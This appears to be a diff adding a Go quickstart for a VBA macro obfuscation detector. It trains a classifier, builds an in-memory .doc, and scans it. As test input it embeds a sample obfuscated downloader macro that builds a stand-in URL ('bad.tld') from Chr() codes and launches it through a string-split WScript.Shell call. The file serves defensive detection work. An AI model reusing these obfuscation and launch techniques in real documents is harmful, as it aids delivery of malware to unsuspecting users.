@@ -1,0 +1,86 @@
+// Quickstart: build a macro-enabled document in memory, train a detector
+// on a small synthetic corpus, and scan the document — the whole public
+// API in one file.
+package main
+
+import (
+	"fmt"
+	"log"
+
+	"repro/internal/cfb"
+	"repro/internal/corpus"
+	"repro/internal/ovba"
+	"repro/vbadetect"
+)
+
+// A blatantly obfuscated downloader (the style of the paper's Figure 2-4).
+const obfuscatedMacro = `Sub pkwzqnvbhft()
+    Dim yruuehdjdnnz As String
+    Dim qpwxkjvbnmzz As String
+    yruuehdjdnnz = Chr(104) & Chr(116) & Chr(116) & Chr(112) & Chr(58) & Chr(47) & Chr(47) & Chr(98) & Chr(97) & Chr(100) & Chr(46) & Chr(116) & Chr(108) & Chr(100)
+    qpwxkjvbnmzz = Replace("savteRKtofilteRK", "teRK", "e")
+    CreateObject("WScr" + "ipt.Sh" + "ell").Run yruuehdjdnnz & qpwxkjvbnmzz, 0
+    Dim ghwjeqkdnsb As Integer
+    ghwjeqkdnsb = 2
+    Do While ghwjeqkdnsb < 45
+        DoEvents: ghwjeqkdnsb = ghwjeqkdnsb + 1
+    Loop
+End Sub
+`
+
+// An ordinary automation macro.
+const cleanMacro = `Sub UpdateWeeklyReport()
+    ' update the summary sheet with this week's totals
+    Dim totalAmount As Long
+    Dim rowIndex As Long
+    For rowIndex = 1 To 50
+        totalAmount = totalAmount + Cells(rowIndex, 2).Value
+    Next rowIndex
+    Worksheets("Summary").Range("B1").Value = totalAmount
+    MsgBox "The weekly report was updated successfully"
+End Sub
+`
+
+func main() {
+	// 1. Train a detector on a small synthetic corpus (in production you
+	// would train once and persist with SaveModel).
+	fmt.Println("training RF detector on V features...")
+	spec := corpus.SmallSpec()
+	dataset := corpus.GenerateMacros(spec)
+	det, err := vbadetect.NewDetector(vbadetect.AlgoRF, vbadetect.FeatureSetV, 1)
+	if err != nil {
+		log.Fatal(err)
+	}
+	if err := det.Train(dataset.Sources(), dataset.Labels()); err != nil {
+		log.Fatal(err)
+	}
+
+	// 2. Build a legacy .doc file containing both macros, entirely in
+	// memory, using the library's own OLE/VBA writer.
+	project := &ovba.Project{Name: "VBAProject", Modules: []ovba.Module{
+		{Name: "NewMacros", Source: obfuscatedMacro},
+		{Name: "Helpers", Source: cleanMacro},
+	}}
+	builder := cfb.NewBuilder()
+	if err := project.WriteTo(builder, "Macros"); err != nil {
+		log.Fatal(err)
+	}
+	if err := builder.AddStream("WordDocument", []byte("body")); err != nil {
+		log.Fatal(err)
+	}
+	doc, err := builder.Bytes()
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Printf("built %d-byte .doc with 2 macros\n\n", len(doc))
+
+	// 3. Scan it.
+	report, err := det.ScanFile(doc)
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Printf("format=%s project=%q verdict: obfuscated=%v\n", report.Format, report.Project, report.Obfuscated())
+	for _, m := range report.Macros {
+		fmt.Printf("  module %-12s obfuscated=%-5v score=%+.3f\n", m.Module, m.Obfuscated, m.Score)
+	}
+}
